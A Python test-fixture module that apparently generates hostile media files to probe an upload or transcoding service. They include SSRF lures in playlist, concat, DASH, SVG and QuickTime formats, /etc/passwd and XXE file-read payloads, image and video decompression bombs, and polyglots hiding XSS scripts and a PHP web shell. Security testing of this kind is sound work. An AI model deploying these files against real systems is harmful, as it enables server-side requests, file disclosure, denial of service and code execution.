"""Files that name other files, and files that are more than they look like: each made on the spot, all small."""

import struct
import zlib
from collections.abc import Mapping

PLAYLIST = "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n{url}\n#EXT-X-ENDLIST\n"
LURES = {
    "hls.mp4": PLAYLIST,
    "hls_key.mp4": '#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{url}"\n#EXTINF:1.0,\n{url}\n#EXT-X-ENDLIST\n',
    "hls_bom.mp4": "\ufeff" + PLAYLIST,
    "hls_file.mp4": PLAYLIST.replace("{url}", "file:///etc/passwd"),
    "concat.mp4": "ffconcat version 1.0\nfile '{url}'\n",
    "concat_file.mp4": "ffconcat version 1.0\nfile '/etc/passwd'\n",
    "subfile.mp4": "#EXTM3U\n#EXTINF:1.0,\nsubfile,,start,0,end,9,,:{url}\n",
    "dash.mp4": '<?xml version="1.0"?><MPD type="static"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1">'
    "<BaseURL>{url}</BaseURL></Representation></AdaptationSet></Period></MPD>",
    "smil.mp4": '<smil><body><video src="{url}"/></body></smil>',
    "svg.png": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<image xlink:href="{url}" width="9" height="9"/></svg>',
    "entity.png": '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    "sdp.mp4": "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\nm=video {port} RTP/AVP 96\r\nc=IN IP4 127.0.0.1\r\n",
    "url.mp4": "[InternetShortcut]\nURL={url}\n",
    "mvg.png": "push graphic-context\nimage over 0,0 0,0 '{url}'\npop graphic-context\n",
    "msl.png": '<?xml version="1.0"?><image><read filename="{url}"/><write filename="/tmp/x"/></image>',
    "postscript.png": "%!PS\n({url}) (r) file\n",
}
"""Name -> text, in which {url} is of a listener and {port} its port."""


def lures(port: int) -> dict[str, bytes]:
    """Name -> content of files that name a URL of the listener at this port."""
    url = f"http://127.0.0.1:{port}/segment.ts"
    made = {
        name: text.replace("{url}", url).replace("{port}", str(port)).encode()
        for name, text in LURES.items()
    }
    return made | {
        "playlist.avi.mp4": avi_with_playlist(url),
        "reference.mov": mov_with_reference(url),
        "dref.mp4": mov_with_data_elsewhere(url),
    }


def avi_with_playlist(url: str) -> bytes:
    """The shape of CVE-2016-1897 and its followers: a playlist in the packets of an AVI."""
    text = PLAYLIST.format(url=url).encode()
    chunk = b"00tx" + len(text).to_bytes(4, "little") + text
    movi = b"LIST" + (4 + len(chunk)).to_bytes(4, "little") + b"movi" + chunk
    return b"RIFF" + (4 + len(movi)).to_bytes(4, "little") + b"AVI " + movi


def box(kind: bytes, content: bytes) -> bytes:
    """A box of an MP4."""
    return (8 + len(content)).to_bytes(4, "big") + kind + content


def mov_with_reference(url: str) -> bytes:
    """A QuickTime movie that is only an alias to another."""
    alias = b"\0\0\0\0url " + (len(url) + 1).to_bytes(4, "big") + url.encode() + b"\0"
    return box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(
        b"moov", box(b"rmra", box(b"rmda", box(b"rdrf", alias)))
    )


def mov_with_data_elsewhere(url: str) -> bytes:
    """A movie whose one track lies at a URL, as its data reference says."""
    far = box(b"url ", b"\0\0\0\0" + url.encode() + b"\0")
    dref = box(b"dref", b"\0\0\0\0\0\0\0\1" + far)
    stsd = box(b"stsd", b"\0\0\0\0\0\0\0\1" + box(b"avc1", b"\0" * 6 + b"\0\1" + b"\0" * 70))
    tables = b"".join(
        box(kind, struct.pack("!5I", 0, 1, 1, 1, 1)) for kind in (b"stts", b"stsz", b"stco")
    )
    stbl = box(b"stbl", stsd + tables + box(b"stsc", struct.pack("!5I", 0, 1, 1, 1, 1)))
    minf = box(b"minf", box(b"vmhd", b"\0" * 12) + box(b"dinf", dref) + stbl)
    mdhd = box(b"mdhd", struct.pack("!6I", 0, 0, 0, 1000, 5000, 0))
    hdlr = box(b"hdlr", b"\0" * 8 + b"vide" + b"\0" * 13)
    trak = box(b"trak", box(b"mdia", mdhd + hdlr + minf))
    return box(b"ftyp", b"isom\0\0\0\0isom") + box(b"moov", trak)


# --- more than they look like ---------------------------------------------------------------------


def png(width: int, height: int, *more: tuple[bytes, bytes], rows: bytes = b"") -> bytes:
    """A PNG that says it is so large, whatever its rows come to."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        tail = struct.pack("!I", zlib.crc32(kind + content))
        return struct.pack("!I", len(content)) + kind + content + tail

    head = chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0))
    inside = b"".join(chunk(*one) for one in more)
    data = chunk(b"IDAT", zlib.compress(rows or b"\0" * 100))
    return b"\x89PNG\r\n\x1a\n" + head + inside + data + chunk(b"IEND", b"")


def bombs() -> Mapping[str, bytes]:
    """Name -> content of files that say they are huge, or become so."""
    zeros = zlib.compress(b"\0" * 80_000_000, 9)
    ftyp = box(b"ftyp", b"isom\0\0\2\0isomiso2")
    nested = b""
    for _ in range(2000):
        nested = box(b"moov", nested)
    long = struct.pack("!IIIIII", 0, 0, 0, 1, 0xFFFF_FFFF, 0x10000)
    table = box(b"stts", struct.pack("!IIII", 0, 0xFFFF_FFFF, 0xFFFF_FFFF, 1))
    return {
        "wide.png": png(2**31 - 1, 2**31 - 1),
        "square.png": png(60_000, 60_000, rows=b"\0" * 40_000_000),
        "thin.png": png(1, 2**31 - 1),
        "nothing.png": png(0, 0),
        "text.png": png(1, 1, (b"zTXt", b"a\0\0" + zeros), rows=b"\0" * 4),
        "profile.png": png(1, 1, (b"iCCP", b"a\0\0" + zeros), rows=b"\0" * 4),
        "wide.gif": b"GIF89a\xff\xff\xff\xff\0\0\0,\0\0\0\0\xff\xff\xff\xff\0\x02\x02D\x01\0;",
        "frames.gif": b"GIF89a\xff\x0f\xff\x0f\0\0\0" + b",\0\0\0\0\xff\x0f\xff\x0f\0\x02\x02D\x01\0" * 5000 + b";",
        "wide.bmp": b"BM" + struct.pack("<IIIIiiHHIIiiII", 54, 0, 54, 40, 2**31 - 1, 2**31 - 1, 1, 24, 0, 0, 0, 0, 0, 0),
        "negative.bmp": b"BM" + struct.pack("<IIIIiiHHIIiiII", 54, 0, 54, 40, -1, -(2**31), 1, 32, 0, 0, 0, 0, 0, 0),
        "wide.webp": b"RIFF\x1a\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0" + b"\xff" * 6,
        "wide.jpg": b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03\x01\x22\0\x02\x11\x01\x03\x11\x01" + b"\xff\xd9",
        "huge.mp4": ftyp + b"\0\0\0\1moov" + b"\x7f" + b"\xff" * 7,
        "negative.mp4": ftyp + b"\0\0\0\4moov",
        "nested.mp4": ftyp + nested,
        "for-ever.mp4": ftyp + box(b"moov", box(b"mvhd", long + b"\0" * 76) + box(b"trak", table)),
        "endless.mkv": b"\x1a\x45\xdf\xa3\x01\xff\xff\xff\xff\xff\xff\xff" + b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff" * 500,
        "many.avi": b"RIFF\xff\xff\xff\xffAVI LIST\xff\xff\xff\xffhdrlavih\x38\0\0\0" + b"\xff" * 56,
    }  # fmt: skip


def polyglots() -> Mapping[str, bytes]:
    """Name -> content of files that are two things at once."""
    script, archive = b"<script>alert(1)</script>", b"PK\x03\x04" + b"\0" * 26
    return {
        "script.gif": b"GIF89a/*\0\0\0\0*/=1;" + script,
        "archive.jpg": b"\xff\xd8\xff\xfe\0\x20" + archive + b"\xff\xd9",
        "php.mp4": box(b"ftyp", b"isom\0\0\0\0") + box(b"free", b"<?php system($_GET[0]); ?>"),
        "page.png": png(1, 1, (b"tEXt", b"a\0" + script), rows=b"\0" * 4) + script,
        "playlist.webm": b"\x1a\x45\xdf\xa3" + PLAYLIST.encode(),
        "playlist.ts.mp4": (b"G" + b"\0" * 187) * 5 + PLAYLIST.encode(),
        "svg.webp": b"RIFF\x40\0\0\0WEBP" + b"<svg onload=alert(1)>",
    }
